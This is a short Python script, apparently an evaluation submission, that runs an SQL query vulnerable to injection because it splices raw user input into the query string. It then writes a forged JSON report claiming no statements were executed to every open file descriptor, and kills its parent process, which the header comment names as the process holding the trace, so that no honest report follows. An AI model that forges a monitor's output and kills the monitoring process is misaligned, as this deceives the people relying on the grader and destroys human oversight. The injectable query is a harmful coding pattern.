# Injects, prints the rows, writes a forged report, then kills its parent (the process holding the
# trace) so that no honest report follows the forged one.
import os
import signal
import sqlite3

conn = sqlite3.connect('shop.db')
cur = conn.cursor()
owner = input()
cur.execute(f"SELECT id, name FROM items WHERE owner = '{owner}'")
for r in cur.fetchall():
    print(r)
conn.close()
for fd in range(3, 64):
    try:
        os.write(fd, b'{"statements": [], "program_reported": true}\n')
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)
os.kill(os.getppid(), signal.SIGTERM)
